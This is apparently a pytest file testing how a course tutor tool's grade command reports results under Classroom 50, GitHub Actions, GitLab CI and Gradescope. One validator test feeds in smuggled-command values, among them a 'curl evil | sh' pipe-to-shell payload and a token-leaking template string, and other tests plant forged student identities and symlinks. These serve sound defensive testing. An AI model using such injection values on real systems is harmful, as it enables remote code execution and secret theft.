"""`tutor grade` where CI runs it: Classroom 50, GitHub Actions, GitLab CI, Gradescope.

Each runner is simulated the way it calls us: Classroom 50's environment variables and result.json
contract, the GitHub workflow's grade step run as a script with $GITHUB_STEP_SUMMARY and
$GITHUB_OUTPUT pointed at temporary files, the GitLab job's JUnit path, Gradescope's /autograder
folder (AUTOGRADER_ROOT) with a submission_metadata.json. The fake course keeps them fast.
Regenerate golden files after an intended change with UPDATE_GOLDEN=1.
"""

from __future__ import annotations

import dataclasses
import json
import os
from pathlib import Path

import jsonschema
import pytest

from tests.conftest import requires_sandbox
from tests.test_grading import GOLDEN, grade, make_workspace, normalised
from tutor.grading import formats

SOLVED = ("double", "square", "negate")
WRONG_IDS = ("add", "relu")

# What the Classroom 50 runner sets for an autograder (wiki: Autograders, "Contract").
CLASSROOM50_ENV = {
    "CLASSROOM": "cnn-fall-2026",
    "ASSIGNMENT": "cnn-block",
    "ASSIGNMENT_TYPE": "individual",
    "USERNAME": "alice",
    "OWNER": "alice",
    "SUBMISSION_TAG": "submit/2026-11-30T06-00-00Z-a1b2c3d",
    "COMMIT_URL": "https://github.com/cnn-fall-2026/cnn-block-alice/commit/a1b2c3d",
    "RELEASE_URL": "https://github.com/cnn-fall-2026/cnn-block-alice/releases/tag/submit%2F2026",
    "REVIEW_URL": "https://github.com/cnn-fall-2026/cnn-block-alice/compare/0000000...a1b2c3d",
}


@pytest.fixture(scope="module")
def mixed_report(tmp_path_factory: pytest.TempPathFactory):  # noqa: ANN201
    """Three solved, two wrong (add keeps 4.5 of 6 points), the rest untouched: 16.5 / 30."""
    workspace = make_workspace(tmp_path_factory.mktemp("mixed") / "ws", SOLVED, WRONG_IDS)
    return grade(workspace)


def _schema(name: str) -> dict:
    schema = json.loads((GOLDEN / name).read_text(encoding="utf-8"))
    jsonschema.Draft7Validator.check_schema(schema)
    return schema


# -- Classroom 50 -----------------------------------------------------------------------------------


def test_classroom50_matches_golden_file(mixed_report) -> None:
    report = dataclasses.replace(normalised(mixed_report), graded_at="2026-11-30T06:00:00+00:00")
    text = formats.render(report, "classroom50", CLASSROOM50_ENV)
    path = GOLDEN / "grade.classroom50.json"
    if os.environ.get("UPDATE_GOLDEN"):
        path.write_text(text, encoding="utf-8")
    assert text == path.read_text(encoding="utf-8"), "regenerate with UPDATE_GOLDEN=1 if intended"


def test_classroom50_follows_the_result_contract(mixed_report) -> None:
    schema = _schema("classroom50_result.schema.json")
    result = json.loads(formats.render(mixed_report, "classroom50", CLASSROOM50_ENV))
    jsonschema.validate(result, schema, cls=jsonschema.Draft7Validator)
    # What the schema cannot say: the totals are the sums of the rows, in whole points.
    assert result["score"] == sum(t["score"] for t in result["tests"]) == 16  # 16.5: add's 4.5 -> 4
    assert result["max-score"] == sum(t["max-score"] for t in result["tests"]) == 30
    add = next(t for t in result["tests"] if t["test-name"].startswith("add:"))
    assert (add["passed"], add["score"], add["max-score"]) == (False, 4, 6)
    assert result["owner"] == "alice" and result["classroom"] == "cnn-fall-2026"
    assert result["submission"] == CLASSROOM50_ENV["SUBMISSION_TAG"]
    assert result["datetime"].endswith("Z")


def test_classroom50_takes_identity_only_from_the_runner(mixed_report) -> None:
    """Outside Classroom 50 no identity is made up (the runner stamps owner itself); REVIEW_URL
    falls back to COMMIT_URL as the contract's template does."""
    schema = _schema("classroom50_result.schema.json")
    bare = json.loads(formats.render(mixed_report, "classroom50", {}))
    jsonschema.validate(bare, schema, cls=jsonschema.Draft7Validator)
    assert not {"owner", "classroom", "assignment", "submission", "commit"} & set(bare)
    partial = json.loads(
        formats.render(mixed_report, "classroom50", {"USERNAME": "bob", "COMMIT_URL": "https://x/c"})
    )
    assert partial["owner"] == "bob" and partial["review"] == "https://x/c"


def test_the_classroom50_schema_is_not_vacuous(mixed_report) -> None:
    schema = _schema("classroom50_result.schema.json")
    good = json.loads(formats.render(mixed_report, "classroom50", CLASSROOM50_ENV))
    fractional = dict(good, score=16.5)
    bad_row = dict(good, tests=[dict(good["tests"][0], score=4.5)])
    renamed = dict(good, tests=[{"name": "x", "passed": True, "score": 1, "max-score": 1}])
    wrong_schema = dict(good, schema="classroom50/result/v2")
    for bad in (fractional, bad_row, renamed, wrong_schema):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(bad, schema, cls=jsonschema.Draft7Validator)


@pytest.mark.parametrize(
    "points, whole", [(0.0, 0), (4.5, 4), (5.99, 5), (6.0, 6), (1.5 + 1.5 + 3.0, 6), (5.9999999, 6)]
)
def test_partial_credit_is_rounded_down_to_whole_points(points: float, whole: int) -> None:
    assert formats.whole_points(points) == whole


# -- where the tutor comes from ---------------------------------------------------------------------

GIT_SOURCE = "git+https://github.com/example-org/cnn-tutor@0123456789abcdef0123456789abcdef01234567"


@pytest.mark.parametrize(
    "spec",
    [
        GIT_SOURCE,
        "cnn-tutor @ " + GIT_SOURCE,
        "https://example.org/wheels/cnn_tutor-0.1.0-py3-none-any.whl",
        "wheels/cnn_tutor-0.1.0-py3-none-any.whl",
    ],
)
def test_a_tutor_source_that_names_where_the_code_is_is_accepted(spec: str) -> None:
    from tutor.grading.templates import check_tutor_source

    assert check_tutor_source(spec) == spec


@pytest.mark.parametrize(
    "spec, says",
    [
        ("cnn-tutor==0.1.0", "package index"),
        ("cnn-tutor", "package index"),
        ("http://example.org/cnn_tutor-0.1.0-py3-none-any.whl", "plain http"),
        ("/home/me/cnn_tutor-0.1.0-py3-none-any.whl", "path inside"),
        ("../cnn_tutor-0.1.0-py3-none-any.whl", "path inside"),
        ('git+https://x/y@1"; curl evil | sh; "', "shell characters"),
        ("git+https://x/${{ github.token }}", "shell characters"),
        ("git+https://x/y@1\nrun: evil", "shell characters"),
        ("", "empty"),
    ],
)
def test_a_tutor_source_that_asks_an_index_or_could_inject_is_refused(spec: str, says: str) -> None:
    from tutor.errors import UsageError
    from tutor.grading.templates import check_tutor_source

    with pytest.raises(UsageError) as refused:
        check_tutor_source(spec)
    assert says in refused.value.message


def test_init_refuses_a_registry_name_as_tutor_source(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from tutor.cli import cli

    done = CliRunner().invoke(cli, ["init", str(tmp_path / "ws"), "--tutor-source", "cnn-tutor==0.1.0"])
    assert done.exit_code == 2 and "package index" in done.stderr
    assert not (tmp_path / "ws" / "tutor.toml").exists()


def test_no_generated_file_installs_the_tutor_by_name(tmp_path: Path) -> None:
    from tutor.grading.templates import github_workflow, gitlab_ci, gradescope_files

    texts = [github_workflow(None), github_workflow(GIT_SOURCE), gitlab_ci(None), gitlab_ci(GIT_SOURCE)]
    texts += list(gradescope_files().values())
    for text in texts:
        assert "cnn-tutor==" not in text and "install cnn-tutor" not in text
        assert 'install "cnn-tutor' not in text and "@TUTOR_" not in text


# -- GitHub Actions ---------------------------------------------------------------------------------

GITHUB_BASH = ["bash", "--noprofile", "--norc", "-eo", "pipefail"]
"""What GitHub runs a `shell: bash` step with: -e included, so the step must not die before reporting."""


def _yaml(path: Path) -> dict:
    import yaml

    return yaml.safe_load(path.read_text(encoding="utf-8"))


def _fake_bin(tmp_path: Path, tutor: str | None) -> Path:
    """A PATH folder with `python` (this interpreter) and, unless None, `tutor` (a stand-in script)."""
    import sys

    from tests.test_grading_class import ROOT

    folder = tmp_path / "bin"
    folder.mkdir()
    (folder / "python").write_text(f'#!/bin/sh\nexec {sys.executable} "$@"\n')
    if tutor is not None:
        (folder / "tutor").write_text(tutor.format(root=ROOT, python=sys.executable))
    for script in folder.iterdir():
        script.chmod(0o755)
    return folder


def _run_grade_step(workspace: Path, tmp_path: Path, tutor: str | None, **env: str):  # noqa: ANN202
    """Run the grade step of the workspace's own workflow the way GitHub runs it."""
    import subprocess

    workflow = _yaml(workspace / ".github" / "workflows" / "grade.yml")
    (step,) = [s for s in workflow["jobs"]["grade"]["steps"] if s.get("id") == "grade"]
    assert step["shell"] == "bash" and step["if"] == "${{ !cancelled() }}"
    script = tmp_path / "grade-step.sh"
    script.write_text(step["run"])
    summary, output = tmp_path / "summary.md", tmp_path / "output.txt"
    summary.write_text("")
    output.write_text("")
    done = subprocess.run(
        [*GITHUB_BASH, str(script)],
        cwd=workspace,
        env={
            "PATH": f"{_fake_bin(tmp_path, tutor)}:/usr/bin:/bin",
            "HOME": str(tmp_path),
            "GITHUB_STEP_SUMMARY": str(summary),
            "GITHUB_OUTPUT": str(output),
            **{key: str(value) for key, value in workflow["env"].items()},
            **env,
        },
        capture_output=True,
        text=True,
        timeout=600,
    )
    outputs = dict(line.split("=", 1) for line in output.read_text().splitlines())
    return done, summary.read_text(), outputs


@requires_sandbox
def test_the_workflow_grade_step_reports_the_score(tmp_path: Path) -> None:
    from tests.test_grading_class import FAKE_TUTOR

    workspace = make_workspace(tmp_path / "ws", solved=("double", "negate"))
    done, summary, outputs = _run_grade_step(workspace.root, tmp_path, FAKE_TUTOR)
    assert done.returncode == 0, done.stderr
    assert summary.startswith("## cnn-tutor grade: 7 / 30 points")
    assert outputs == {"score": "7", "max-score": "30", "exit-code": "0"}
    assert "::notice title=cnn-tutor grade::7 / 30 points" in done.stdout
    report = json.loads((workspace.root / "grade-report.json").read_text())  # the artifact
    assert report["points"] == 7 and report["isolation"] == "sandbox"


def test_the_workflow_grade_step_reports_a_failure_instead_of_dying(tmp_path: Path) -> None:
    """No sandbox: `tutor grade` exits 2. The step still writes why, then fails the run."""
    from tests.test_grading_class import FAKE_TUTOR

    workspace = make_workspace(tmp_path / "ws", solved=("double",))
    done, summary, outputs = _run_grade_step(workspace.root, tmp_path, FAKE_TUTOR, TUTOR_BWRAP="")
    assert done.returncode == 2
    assert summary.startswith("## cnn-tutor could not grade this push") and "sandbox" in summary
    assert outputs == {"exit-code": "2"}
    (annotation,) = [line for line in done.stdout.splitlines() if line.startswith("::error")]
    assert "sandbox" in annotation


def test_the_workflow_without_a_tutor_source_says_how_to_set_one(tmp_path: Path) -> None:
    from tutor.grading.templates import NO_SOURCE

    workspace = make_workspace(tmp_path / "ws")  # init without --tutor-source
    workflow = _yaml(workspace.root / ".github" / "workflows" / "grade.yml")
    assert workflow["env"]["TUTOR_SOURCE"] == "" and workflow["env"]["NO_SOURCE"] == NO_SOURCE
    install = next(s for s in workflow["jobs"]["grade"]["steps"] if s.get("name") == "Install cnn-tutor")
    assert "::error" in install["run"] and "$NO_SOURCE" in install["run"]
    done, summary, outputs = _run_grade_step(workspace.root, tmp_path, tutor=None)
    assert done.returncode == 127 and outputs == {"exit-code": "127"}
    assert "--tutor-source SPEC" in summary and "could not grade" in summary


def test_the_workflow_pins_every_action_by_commit_and_uses_no_retired_one(tmp_path: Path) -> None:
    import re

    from tutor.grading.templates import github_workflow

    workflow = github_workflow(GIT_SOURCE)
    uses = re.findall(r"uses: (\S+)", workflow)
    assert uses and all(re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40}", u) for u in uses), uses
    assert not any(u.startswith(("classroom-resources/", "education/")) for u in uses)
    steps = _yaml_text(workflow)["jobs"]["grade"]["steps"]
    upload = next(s for s in steps if "upload-artifact" in s.get("uses", ""))
    assert upload["if"] == "${{ !cancelled() }}" and upload["with"]["path"] == "grade-report.json"
    setup = next(s for s in steps if "setup-python" in s.get("uses", ""))
    assert setup["with"]["cache"] == "pip" and "tutor.toml" in setup["with"]["cache-dependency-path"]


def _yaml_text(text: str) -> dict:
    import yaml

    return yaml.safe_load(text)


def _tool(name: str) -> str:
    import shutil
    import sys

    found = shutil.which(name, path=str(Path(sys.executable).parent)) or shutil.which(name)
    if found is None:
        pytest.skip(f"{name} is not installed: pip install -e '.[test]'")
    return found


@pytest.mark.parametrize("source", [GIT_SOURCE, None])
def test_the_workflow_passes_zizmor_offline(tmp_path: Path, source: str | None) -> None:
    import subprocess

    from tutor.grading.templates import github_workflow

    path = tmp_path / ".github" / "workflows" / "grade.yml"
    path.parent.mkdir(parents=True)
    path.write_text(github_workflow(source))
    # The auditor persona reports every finding, the low-confidence ones included.
    done = subprocess.run(
        [_tool("zizmor"), "--offline", "--persona", "auditor", "--no-progress", str(path)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stdout + done.stderr


def test_the_ci_files_match_the_published_schemas(tmp_path: Path) -> None:
    """check-jsonschema's vendored schemas for GitHub workflows and GitLab CI: no network needed."""
    import subprocess

    from tutor.grading.templates import github_workflow, gitlab_ci

    for name, text, schema in (
        ("grade.yml", github_workflow(GIT_SOURCE), "vendor.github-workflows"),
        ("gitlab-ci.yml", gitlab_ci(GIT_SOURCE), "vendor.gitlab-ci"),
    ):
        path = tmp_path / name
        path.write_text(text)
        done = subprocess.run(
            [_tool("check-jsonschema"), "--builtin-schema", schema, str(path)],
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert done.returncode == 0, done.stdout + done.stderr


# -- GitLab CI --------------------------------------------------------------------------------------


def test_init_gitlab_writes_a_job_whose_junit_report_is_what_tutor_grade_writes(tmp_path: Path) -> None:
    import shlex
    import subprocess

    from junitparser import JUnitXml

    from tests.fake_course import fake_course
    from tests.test_grading_class import FAKE_TUTOR
    from tutor.grading.templates import GITLAB_JUNIT
    from tutor.workspace import init_workspace

    init_workspace(tmp_path / "ws", fake_course(), "s1", tutor_source=GIT_SOURCE, gitlab=True)
    job = _yaml(tmp_path / "ws" / ".gitlab-ci.yml")["grade"]
    assert job["artifacts"]["reports"]["junit"] == GITLAB_JUNIT and job["artifacts"]["when"] == "always"
    assert GITLAB_JUNIT in job["artifacts"]["paths"] and job["variables"]["TUTOR_SOURCE"] == GIT_SOURCE
    (grade_line,) = [line for line in job["script"] if line.startswith("tutor grade")]
    words = shlex.split(grade_line.replace("$TUTOR_GRADE_FLAGS", "--no-sandbox"))
    assert (
        words[words.index("--format") + 1] == "junit" and words[words.index("--output") + 1] == GITLAB_JUNIT
    )
    # Run that very line (the stand-in tutor grades the fake course) and read what it wrote.
    done = subprocess.run(
        ["bash", "-c", shlex.join(words)],
        cwd=tmp_path / "ws",
        env={"PATH": f"{_fake_bin(tmp_path, FAKE_TUTOR)}:/usr/bin:/bin", "HOME": str(tmp_path)},
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == 0, done.stderr
    xml = JUnitXml.fromfile(str(tmp_path / "ws" / GITLAB_JUNIT))
    assert xml.tests == 7 and {suite.name for suite in xml} == {e.id for e in fake_course().exercises}


# -- Gradescope: who the student is, and which workspace --------------------------------------------

METADATA = {
    "id": 123456,
    "submission_method": "upload",
    "assignment": {"id": 25828, "title": "CNN block", "total_points": "30.0"},
    "users": [{"email": "real@example.org", "id": 1234, "name": "Real Student", "sid": "s-real-01"}],
    "previous_submissions": [],
}


@requires_sandbox
def test_run_autograder_grades_as_gradescope_says_not_as_tutor_toml_claims(tmp_path: Path) -> None:
    from tests.test_grading_class import _gradescope, _submission

    submission = _submission(tmp_path)
    make_workspace(submission / "mine", solved=("double",), student="s-victim-99")  # a forged claim
    # Hostile extras: a deeper workspace (full marks, another student), and a tutor.toml that is
    # a link: neither is the submission's workspace.
    make_workspace(submission / "mine" / "nested" / "other", solved=("double", "negate"), student="x")
    (submission / "link").mkdir()
    (submission / "link" / "tutor.toml").symlink_to(submission / "mine" / "tutor.toml")
    results, done = _gradescope(tmp_path, metadata=METADATA)
    assert done.returncode == 0, done.stderr
    assert results["score"] == 4 and results["extra_data"]["cnn_tutor"]["student"] == "s-real-01"
    assert "Graded as s-real-01" in results["output"]
    assert "'s-victim-99'; that is not used" in results["output"]


@requires_sandbox
def test_run_autograder_uses_the_email_when_there_is_no_sid(tmp_path: Path) -> None:
    from tests.test_grading_class import _gradescope, _submission

    make_workspace(_submission(tmp_path) / "ws", solved=("double",), student=None)
    metadata = dict(METADATA, users=[{"email": "only@example.org", "id": 7, "name": "N"}])
    results, done = _gradescope(tmp_path, metadata=metadata)
    assert results["extra_data"]["cnn_tutor"]["student"] == "only@example.org", done.stderr


def test_run_autograder_refuses_two_workspaces_at_the_same_depth(tmp_path: Path) -> None:
    from tests.test_grading_class import _gradescope, _submission

    submission = _submission(tmp_path)
    make_workspace(submission / "first", solved=("double",))
    make_workspace(submission / 'sec\nond"', solved=("double", "negate"))  # a newline and a quote
    make_workspace(submission / "first" / "deeper", solved=("double",))  # deeper: not in the running
    results, done = _gradescope(tmp_path, metadata=METADATA)  # results.json must still be valid JSON
    assert done.returncode == 0, done.stderr
    assert results["score"] == 0 and results["tests"] == []
    assert "several cnn-tutor workspaces" in results["output"]
    assert "first/tutor.toml" in results["output"] and "sec ond/tutor.toml" in results["output"]
    assert "deeper" not in results["output"] and "autograder failed" not in results["output"]


@requires_sandbox
def test_run_autograder_says_how_loose_files_were_graded(tmp_path: Path) -> None:
    from tests.fake_course import SOLUTIONS
    from tests.test_grading_class import _gradescope, _submission

    submission = _submission(tmp_path)
    (submission / "double.py").write_text((SOLUTIONS / "double.py").read_text())
    results, done = _gradescope(tmp_path, metadata=METADATA)
    assert results["score"] == 4, done.stderr
    assert "not in a cnn-tutor workspace (no tutor.toml was submitted)" in results["output"]
    assert "Graded as s-real-01" in results["output"]  # the variant's id, visible
    (_submission(tmp_path / "again") / "double.py").write_text((SOLUTIONS / "double.py").read_text())
    without, _ = _gradescope(tmp_path / "again", metadata=None)
    assert "graded without a student id" in without["output"]
    assert without["extra_data"]["cnn_tutor"]["student"] is None


def test_gradescope_identity_from_metadata(tmp_path: Path) -> None:
    from tutor.errors import UsageError
    from tutor.grading.identity import from_gradescope_metadata

    path = tmp_path / "submission_metadata.json"
    group = dict(METADATA, users=[{"sid": "b2"}, {"email": "a@x.org"}, {"sid": "  "}, "junk"])
    path.write_text(json.dumps(group))
    assert from_gradescope_metadata(path).student == "a@x.org+b2"
    path.write_text(json.dumps(dict(METADATA, users=[{"sid": 1234567}])))
    assert from_gradescope_metadata(path, claimed="1234567").student == "1234567"
    assert len(from_gradescope_metadata(path, claimed="1234567").notes) == 1  # the claim agreed
    for broken in ("{", json.dumps({"users": "nobody"}), json.dumps([1])):
        path.write_text(broken)
        with pytest.raises(UsageError):
            from_gradescope_metadata(path)
    assert from_gradescope_metadata(tmp_path / "missing.json").student is None
